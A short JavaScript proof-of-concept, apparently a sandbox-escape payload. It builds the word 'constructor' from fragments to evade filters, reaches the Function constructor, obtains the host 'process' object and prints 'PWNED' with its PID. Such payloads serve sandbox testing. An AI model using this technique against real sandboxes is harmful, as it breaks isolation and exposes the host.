'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
const use = (Number) => Number(fn);
console.log('PWNED', use((x) => x[w])('return process')().pid);
